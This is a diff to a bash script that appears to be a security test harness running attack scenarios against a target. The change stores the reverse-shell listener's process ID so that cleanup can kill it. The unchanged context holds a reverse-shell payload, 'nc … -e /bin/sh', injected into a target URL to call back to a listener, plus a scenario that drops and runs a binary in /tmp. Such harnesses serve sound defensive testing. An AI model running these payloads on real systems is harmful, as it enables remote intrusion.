@@ -25,7 +25,7 @@ wait_s=${VW_WAIT:-2.5}
 work=$(mktemp -d)
 tails=()
 cleanup() {
-	for p in "${tails[@]}"; do kill "$p" 2>/dev/null || true; done
+	for p in "${tails[@]}" $(cat "$work/listener.pid" 2>/dev/null); do kill "$p" 2>/dev/null || true; done
 	wait 2>/dev/null || true
 	rm -rf "$work"
 }
@@ -81,6 +81,7 @@ attack tmp-binary 'DROPPED-RAN' "drop a binary in /tmp and run it" -- \
 reverse_shell() {
 	"$ATTACKER" listen "$VW_CALLBACK" 8 $'echo SHELL-$(id -u); sleep 2; exit\n' >"$work/listener.out" 2>&1 &
 	local listener=$!
+	echo "$listener" >"$work/listener.pid"
 	sleep 0.3
 	"$ATTACKER" inject "$url" "nc ${VW_CALLBACK%:*} ${VW_CALLBACK##*:} -e /bin/sh" || true
 	wait "$listener" || true
